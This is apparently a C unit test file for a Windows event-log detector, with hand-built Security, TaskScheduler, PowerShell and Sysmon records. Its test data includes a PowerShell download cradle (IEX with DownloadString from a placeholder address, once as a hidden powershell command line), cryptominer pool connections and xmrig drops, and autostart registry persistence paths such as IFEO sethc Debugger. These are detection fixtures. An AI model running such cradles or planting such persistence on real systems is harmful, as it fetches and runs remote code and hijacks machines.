/* test_winlogs.c - unit tests of logs/winlogs.c through its record seam
 * (mt_winlogs_record): the Windows events the shared corpus does not hold (TaskScheduler
 * 200, LocalSessionManager 21/25, PowerShell 4104, Sysmon 3 to a pool) and the filters
 * and damaged fields of the others, on records built by hand */
#include <string.h>

#include "logs/winlogs.h"
#include "t.h"

static mt_rules *rules;

#define MAXF 12

typedef struct rec {
	mt_evtx_record r;
	mt_evtx_field f[MAXF];
} rec;

/* A record of provider with event id and name/value pairs (NULL-terminated). */
static void mk(rec *x, const char *provider, unsigned id, const char *const *kv)
{
	memset(x, 0, sizeof(*x));
	x->r.provider = provider;
	x->r.channel = "";
	x->r.computer = "host";
	x->r.user_sid = "S-1-5-21-1-2-3-1001";
	x->r.event_id = id;
	x->r.record_id = 7;
	x->r.time = 1700000000;
	x->r.pid = 1234;
	size_t n = 0;
	for (; kv[0] && n < MAXF; kv += 2, n++) {
		x->f[n].name = kv[0];
		x->f[n].value = kv[1];
	}
	x->r.fields = x->f;
	x->r.nfields = n;
}

static mt_logs *new_logs(const mt_rules *r)
{
	mt_logs *l = calloc(1, sizeof(*l));
	REQUIRE_NOT_NULL(l);
	l->rules = r;
	REQUIRE_INT_EQ(mt_logs_file(l, "/Windows/System32/winevt/Logs/x.evtx", 6), 0);
	return l;
}

/* The events one record gives: the last one added, or NULL when none was. */
static const mt_logev *add(mt_logs *l, const char *provider, unsigned id, const char *const *kv)
{
	rec x;
	mk(&x, provider, id, kv);
	size_t before = l->nev;
	ASSERT_INT_EQ(mt_winlogs_record(l, 0, &x.r), MT_OK);
	return l->nev > before ? &l->ev[l->nev - 1] : NULL;
}

/* Field i of a detail (MT_LOG_SEP-separated) into out. */
static const char *field(const char *d, unsigned i, char *out, size_t n)
{
	for (; i > 0 && d; i--)
		if ((d = strchr(d, MT_LOG_SEP)) != NULL)
			d++;
	size_t k = 0;
	if (d) {
		const char *e = strchr(d, MT_LOG_SEP);
		k = e ? (size_t)(e - d) : strlen(d);
	}
	if (k >= n)
		k = n - 1;
	memcpy(out, d ? d : "", k);
	out[k] = '\0';
	return out;
}

#define SEC    "Microsoft-Windows-Security-Auditing"
#define SCM    "Service Control Manager"
#define TASKS  "Microsoft-Windows-TaskScheduler"
#define LSM    "Microsoft-Windows-TerminalServices-LocalSessionManager"
#define PS     "Microsoft-Windows-PowerShell"
#define SYSMON "Microsoft-Windows-Sysmon"

static void test_logons(void)
{
	char b[MT_LOG_DETAIL_LONG];
	mt_logs *l = new_logs(rules);
	TEST_START("4648: explicit credentials, subject, server, process, address");
	const char *const e4648[] = {"SubjectUserName",
	                             "alice",
	                             "TargetUserName",
	                             "admin",
	                             "TargetServerName",
	                             "srv01",
	                             "ProcessName",
	                             "C:\\Windows\\System32\\runas.exe",
	                             "IpAddress",
	                             "203.0.113.5",
	                             "IpPort",
	                             "445",
	                             NULL};
	const mt_logev *e = add(l, SEC, 4648, e4648);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_EXPLICIT_LOGON);
	ASSERT_STR_EQ(e->user, "admin");
	ASSERT_STR_EQ(e->ip, "203.0.113.5");
	ASSERT_INT_EQ(e->port, 445);
	ASSERT_STR_EQ(field(e->detail, 0, b, sizeof(b)), "alice");
	ASSERT_STR_EQ(field(e->detail, 1, b, sizeof(b)), "srv01");
	ASSERT_STR_EQ(field(e->detail, 2, b, sizeof(b)), "C:\\Windows\\System32\\runas.exe");
	ASSERT_STR_EQ(mt_logev_kind_name(MT_LE_EXPLICIT_LOGON), "explicit_logon");
	TEST_DONE();
	TEST_START("4648 without a target account, or from another provider: none");
	const char *const no_target[] = {"SubjectUserName", "alice", "TargetServerName", "srv01",
	                                 NULL};
	ASSERT_NULL(add(l, SEC, 4648, no_target));
	ASSERT_NULL(add(l, "Some-Other-Provider", 4648, e4648));
	TEST_DONE();
	TEST_START("LocalSessionManager 21/25: RDP logons with the address, console ones");
	const char *const e21[] = {"User",    "WIN-1\\bob",   "SessionID", "2",
	                           "Address", "198.51.100.7", NULL};
	e = add(l, LSM, 21, e21);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_ACCEPTED);
	ASSERT_STR_EQ(e->user, "bob");
	ASSERT_STR_EQ(e->ip, "198.51.100.7");
	ASSERT_STR_EQ(e->method, "rdp");
	ASSERT_INT_EQ(e->backed, 1);
	ASSERT_STR_EQ(e->detail, "session logon, session 2");
	const char *const e25[] = {"User",    "WIN-1\\bob",          "SessionID", "3",
	                           "Address", "::ffff:198.51.100.8", NULL};
	e = add(l, LSM, 25, e25);
	REQUIRE_NOT_NULL(e);
	ASSERT_STR_EQ(e->ip, "198.51.100.8");
	ASSERT_STR_EQ(e->method, "rdp");
	ASSERT_STR_EQ(e->detail, "session reconnection, session 3");
	const char *const console[] = {"User",    "WIN-1\\carol", "SessionID", "1",
	                               "Address", "LOCAL",        NULL};
	e = add(l, LSM, 21, console);
	REQUIRE_NOT_NULL(e);
	ASSERT_STR_EQ(e->ip, "");
	ASSERT_STR_EQ(e->method, "interactive");
	const char *const no_user[] = {"SessionID", "1", "Address", "198.51.100.7", NULL};
	ASSERT_NULL(add(l, LSM, 21, no_user));
	ASSERT_NULL(add(l, SYSMON, 21, e21));
	TEST_DONE();
	mt_logs_free(l);
}

static void test_services_tasks(void)
{
	char b[MT_LOG_DETAIL_LONG];
	mt_logs *l = new_logs(rules);
	TEST_START("7040: start type changed, old -> new; a missing type: none");
	const char *const e7040[] = {"param1", "Background Intelligent Transfer Service",
	                             "param2", "demand start",
	                             "param3", "auto start",
	                             "param4", "BITS",
	                             NULL};
	const mt_logev *e = add(l, SCM, 7040, e7040);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_SERVICE);
	ASSERT_STR_EQ(e->method, "event 7040");
	ASSERT_STR_EQ(field(e->detail, 0, b, sizeof(b)), "BITS");
	ASSERT_STR_EQ(field(e->detail, 2, b, sizeof(b)), "demand start");
	ASSERT_STR_EQ(field(e->detail, 3, b, sizeof(b)), "auto start");
	const char *const cut[] = {"param1", "X", "param2", "demand start", NULL};
	ASSERT_NULL(add(l, SCM, 7040, cut));
	TEST_DONE();
	TEST_START("TaskScheduler 200: action started, task and action");
	const char *const e200[] = {"TaskName",
	                            "\\Microsoft\\Windows\\WinSAT\\Update",
	                            "ActionName",
	                            "C:\\ProgramData\\svchost.exe",
	                            "TaskInstanceId",
	                            "{0-0}",
	                            NULL};
	e = add(l, TASKS, 200, e200);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_TASK);
	ASSERT_STR_EQ(e->method, "event 200");
	ASSERT_STR_EQ(field(e->detail, 0, b, sizeof(b)), "\\Microsoft\\Windows\\WinSAT\\Update");
	ASSERT_STR_EQ(field(e->detail, 1, b, sizeof(b)), "C:\\ProgramData\\svchost.exe");
	const char *const no_action[] = {"TaskName", "\\T", NULL};
	ASSERT_NULL(add(l, TASKS, 200, no_action));
	ASSERT_NULL(add(l, SCM, 200, e200));
	TEST_DONE();
	mt_logs_free(l);
}

static void test_powershell(void)
{
	char b[MT_LOG_DETAIL_LONG];
	mt_logs *l = new_logs(rules);
	TEST_START("4104: a download cradle is kept with its verdict, benign blocks are not");
	const char *const bad[] = {
		"MessageNumber",
		"1",
		"MessageTotal",
		"1",
		"ScriptBlockText",
		"IEX (New-Object Net.WebClient).DownloadString('http://198.51.100.9/x.ps1')",
		"ScriptBlockId",
		"{1}",
		"Path",
		"",
		NULL};
	const mt_logev *e = add(l, PS, 4104, bad);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_SCRIPT);
	ASSERT_STR_EQ(mt_logev_kind_name(MT_LE_SCRIPT), "powershell_script");
	field(e->detail, 0, b, sizeof(b));
	ASSERT_TRUE(strcmp(b, "medium") == 0 || strcmp(b, "high") == 0 ||
	            strcmp(b, "critical") == 0);
	ASSERT_STR_NE(field(e->detail, 1, b, sizeof(b)), "");
	ASSERT_STR_EQ(field(e->detail, 3, b, sizeof(b)), "S-1-5-21-1-2-3-1001");
	ASSERT_STR_CONTAINS(field(e->detail, 4, b, sizeof(b)), "DownloadString");
	const char *const benign[] = {"ScriptBlockText",
	                              "function Get-Thing { param($a) return $a + 1 }", NULL};
	ASSERT_NULL(add(l, PS, 4104, benign));
	const char *const empty[] = {"ScriptBlockText", "", NULL};
	ASSERT_NULL(add(l, PS, 4104, empty));
	TEST_DONE();
	TEST_START("4104: only the first MT_LOG_SCRIPT bytes of a long block, cut at a character");
	char big[8192];
	int k = snprintf(big, sizeof(big),
	                 "IEX (New-Object Net.WebClient).DownloadString("
	                 "'http://198.51.100.9/x.ps1'); # ");
	while (k + 2 < (int)sizeof(big) - 1) { /* two-byte characters to the end */
		big[k++] = (char)0xc3;
		big[k++] = (char)0xa9;
	}
	big[k] = '\0';
	const char *const longb[] = {"ScriptBlockText", big, NULL};
	e = add(l, PS, 4104, longb);
	REQUIRE_NOT_NULL(e);
	field(e->detail, 4, b, sizeof(b));
	ASSERT_TRUE(strlen(b) <= MT_LOG_SCRIPT);
	ASSERT_TRUE(strlen(b) > MT_LOG_SCRIPT - 4);
	ASSERT_TRUE(((unsigned char)b[strlen(b) - 1] & 0xc0) == 0x80 ||
	            (unsigned char)b[strlen(b) - 1] < 0x80);
	ASSERT_TRUE(strlen(e->detail) < MT_LOG_DETAIL_LONG);
	TEST_DONE();
	mt_logs_free(l);
	TEST_START("4104 and Sysmon 3 without rules: not kept");
	l = new_logs(NULL);
	ASSERT_NULL(add(l, PS, 4104, bad));
	const char *const pool[] = {
		"Image", "C:\\x.exe", "DestinationIp", "163.172.114.218", "DestinationPort",
		"3333",  NULL};
	ASSERT_NULL(add(l, SYSMON, 3, pool));
	mt_logs_free(l);
	TEST_DONE();
}

static void test_sysmon(void)
{
	char b[MT_LOG_DETAIL_LONG];
	mt_logs *l = new_logs(rules);
	TEST_START("Sysmon 3: to a pool address, port or domain; elsewhere: none");
	const char *const pool_ip[] = {"Image",
	                               "C:\\Windows\\Temp\\x.exe",
	                               "User",
	                               "WIN\\bob",
	                               "ProcessId",
	                               "4242",
	                               "DestinationIp",
	                               "163.172.114.218",
	                               "DestinationPort",
	                               "443",
	                               NULL};
	const mt_logev *e = add(l, SYSMON, 3, pool_ip);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_NETCONN);
	ASSERT_STR_EQ(e->user, "bob");
	ASSERT_INT_EQ(e->pid, 4242);
	ASSERT_STR_EQ(field(e->detail, 0, b, sizeof(b)), "C:\\Windows\\Temp\\x.exe");
	ASSERT_STR_EQ(field(e->detail, 1, b, sizeof(b)), "163.172.114.218");
	ASSERT_STR_EQ(field(e->detail, 2, b, sizeof(b)), "443");
	ASSERT_STR_CONTAINS(field(e->detail, 4, b, sizeof(b)), "pool address");
	const char *const pool_port[] = {
		"Image", "C:\\x.exe", "DestinationIp", "198.51.100.77", "DestinationPort",
		"3333",  NULL};
	e = add(l, SYSMON, 3, pool_port);
	REQUIRE_NOT_NULL(e);
	ASSERT_STR_CONTAINS(field(e->detail, 4, b, sizeof(b)), "pool port");
	const char *const pool_dom[] = {"Image",
	                                "C:\\x.exe",
	                                "DestinationIp",
	                                "198.51.100.78",
	                                "DestinationPort",
	                                "443",
	                                "DestinationHostname",
	                                "xmr.2miners.com",
	                                NULL};
	e = add(l, SYSMON, 3, pool_dom);
	REQUIRE_NOT_NULL(e);
	ASSERT_STR_CONTAINS(field(e->detail, 4, b, sizeof(b)), "pool domain");
	ASSERT_STR_EQ(field(e->detail, 3, b, sizeof(b)), "xmr.2miners.com");
	const char *const web[] = {
		"Image", "C:\\x.exe", "DestinationIp", "93.184.220.29", "DestinationPort",
		"80",    NULL};
	ASSERT_NULL(add(l, SYSMON, 3, web));
	const char *const bad_port[] = {
		"Image", "C:\\x.exe", "DestinationIp", "163.172.114.218", "DestinationPort",
		"3333x", NULL};
	ASSERT_NULL(add(l, SYSMON, 3, bad_port));
	const char *const no_ip[] = {"Image", "C:\\x.exe", "DestinationPort", "3333", NULL};
	ASSERT_NULL(add(l, SYSMON, 3, no_ip));
	TEST_DONE();
	TEST_START("Sysmon 1: a drop place or a suspicious command line; benign: none");
	const char *const ping[] = {"Image",       "C:\\Windows\\SysWOW64\\PING.EXE",
	                            "CommandLine", "ping -n 1 10.0.0.1",
	                            "ParentImage", "C:\\Windows\\System32\\cmd.exe",
	                            NULL};
	ASSERT_NULL(add(l, SYSMON, 1, ping));
	const char *const dropped[] = {"Image",       "C:\\Windows\\Temp\\svchost.exe",
	                               "CommandLine", "C:\\Windows\\Temp\\svchost.exe",
	                               "ParentImage", "C:\\Windows\\explorer.exe",
	                               "User",        "WIN\\bob",
	                               "ProcessId",   "77",
	                               NULL};
	e = add(l, SYSMON, 1, dropped);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_PROCESS);
	ASSERT_INT_EQ(e->pid, 77);
	ASSERT_STR_EQ(field(e->detail, 0, b, sizeof(b)), "C:\\Windows\\Temp\\svchost.exe");
	ASSERT_STR_EQ(field(e->detail, 1, b, sizeof(b)), "C:\\Windows\\explorer.exe");
	ASSERT_STR_NE(field(e->detail, 2, b, sizeof(b)), "");
	ASSERT_STR_EQ(field(e->detail, 3, b, sizeof(b)), "C:\\Windows\\Temp\\svchost.exe");
	const char *const cradle[] = {
		"Image", "C:\\Windows\\System32\\WindowsPowerShell\\v1.0\\powershell.exe",
		"CommandLine",
		"powershell -nop -w hidden -c \"IEX (New-Object Net.WebClient).DownloadString("
		"'http://198.51.100.9/x.ps1')\"",
		NULL};
	e = add(l, SYSMON, 1, cradle);
	REQUIRE_NOT_NULL(e);
	ASSERT_STR_LACKS(field(e->detail, 2, b, sizeof(b)), "drop place");
	const char *const no_cmd[] = {"Image", "C:\\Windows\\Temp\\svchost.exe", NULL};
	ASSERT_NULL(add(l, SYSMON, 1, no_cmd));
	ASSERT_NULL(add(l, "Microsoft-Windows-Kernel-General", 1, dropped));
	TEST_DONE();
	TEST_START("Sysmon 11: programs and scripts in drop places only");
	const char *const exe[] = {"Image", "C:\\Windows\\System32\\certutil.exe", "TargetFilename",
	                           "C:\\Users\\bob\\AppData\\Local\\Temp\\xmrig.EXE", NULL};
	e = add(l, SYSMON, 11, exe);
	REQUIRE_NOT_NULL(e);
	ASSERT_INT_EQ(e->kind, MT_LE_FILE_CREATE);
	ASSERT_STR_EQ(field(e->detail, 1, b, sizeof(b)),
	              "C:\\Users\\bob\\AppData\\Local\\Temp\\xmrig.EXE");
	ASSERT_STR_EQ(field(e->detail, 2, b, sizeof(b)), "Temp");
	const char *const ps1[] = {"Image", "C:\\x.exe", "TargetFilename",
	                           "C:\\Windows\\Fonts\\a.ps1", NULL};
	ASSERT_NOT_NULL(add(l, SYSMON, 11, ps1));
	const char *const txt[] = {"Image", "C:\\x.exe", "TargetFilename",
	                           "C:\\Windows\\Temp\\a.txt", NULL};
	ASSERT_NULL(add(l, SYSMON, 11, txt));
	const char *const pf[] = {"Image", "C:\\x.exe", "TargetFilename",
	                          "C:\\Program Files\\Opera\\opera.exe", NULL};
	ASSERT_NULL(add(l, SYSMON, 11, pf));
	TEST_DONE();
	TEST_START("Sysmon 13: autostart locations only");
	static const char *const keep[] = {
		"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Run\\updater",
		"HKU\\S-1-5-21-1\\Software\\Microsoft\\Windows\\CurrentVersion\\RunOnce\\x",
		"HKLM\\System\\CurrentControlSet\\Services\\xmr\\ImagePath",
		"\\REGISTRY\\MACHINE\\SYSTEM\\ControlSet001\\Services\\xmr\\Parameters\\ServiceDll",
		("HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Image File Execution "
	         "Options\\sethc.exe\\Debugger"),
		"HKLM\\SOFTWARE\\Microsoft\\Windows NT\\CurrentVersion\\Winlogon\\Shell",
	};
	for (size_t i = 0; i < MT_ARRAY_LEN(keep); i++) {
		const char *const kv[] = {"Image", "C:\\x.exe", "TargetObject",
		                          keep[i], "Details",   "C:\\Windows\\Temp\\x.exe",
		                          NULL};
		e = add(l, SYSMON, 13, kv);
		ASSERT_NOT_NULL(e);
		if (e) {
			ASSERT_INT_EQ(e->kind, MT_LE_REG_SET);
			ASSERT_STR_EQ(field(e->detail, 1, b, sizeof(b)), keep[i]);
			ASSERT_STR_EQ(field(e->detail, 2, b, sizeof(b)),
			              "C:\\Windows\\Temp\\x.exe");
		}
	}
	static const char *const skip[] = {
		"HKLM\\System\\CurrentControlSet\\Services\\bam\\State\\UserSettings\\S-1\\x",
		"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Uninstall\\Opera\\URLInfo",
		"HKLM\\SOFTWARE\\Classes\\OperaStable\\shell\\open\\command\\(Default)",
		"HKLM\\SOFTWARE\\Microsoft\\Windows\\CurrentVersion\\Runtime\\x",
	};
	for (size_t i = 0; i < MT_ARRAY_LEN(skip); i++) {
		const char *const kv[] = {"Image", "C:\\x.exe", "TargetObject", skip[i], NULL};
		ASSERT_NULL(add(l, SYSMON, 13, kv));
	}
	TEST_DONE();
	TEST_START("damaged fields: separators replaced, a huge command line cut");
	const char *const sep[] = {"Image",
	                           "C:\\Windows\\Temp\\a\x1f"
	                           "b.exe",
	                           "CommandLine", "x", NULL};
	e = add(l, SYSMON, 1, sep);
	REQUIRE_NOT_NULL(e);
	ASSERT_STR_EQ(field(e->detail, 0, b, sizeof(b)), "C:\\Windows\\Temp\\a b.exe");
	static char huge[40000];
	memset(huge, 'A', sizeof(huge) - 1);
	memcpy(huge, "C:\\Windows\\Temp\\m.exe ", 22);
	const char *const hc[] = {"Image", "C:\\Windows\\Temp\\m.exe", "CommandLine", huge, NULL};
	e = add(l, SYSMON, 1, hc);
	REQUIRE_NOT_NULL(e);
	ASSERT_TRUE(strlen(e->detail) < MT_LOG_DETAIL_LONG);
	ASSERT_STR_CONTAINS(field(e->detail, 3, b, sizeof(b)), "C:\\Windows\\Temp\\m.exe AAAA");
	TEST_DONE();
	TEST_START("the seam refuses a file that is not there");
	rec x;
	mk(&x, SYSMON, 1, dropped);
	ASSERT_INT_EQ(mt_winlogs_record(l, 5, &x.r), MT_ERR_INVAL);
	TEST_DONE();
	mt_logs_free(l);
}

int main(void)
{
	REQUIRE_INT_EQ(mt_rules_new(&rules), MT_OK);
	REQUIRE_INT_EQ(mt_rules_load_builtin(rules, NULL, NULL), MT_OK);
	test_logons();
	test_services_tasks();
	test_powershell();
	test_sysmon();
	mt_rules_free(rules);
	return T_DONE();
}
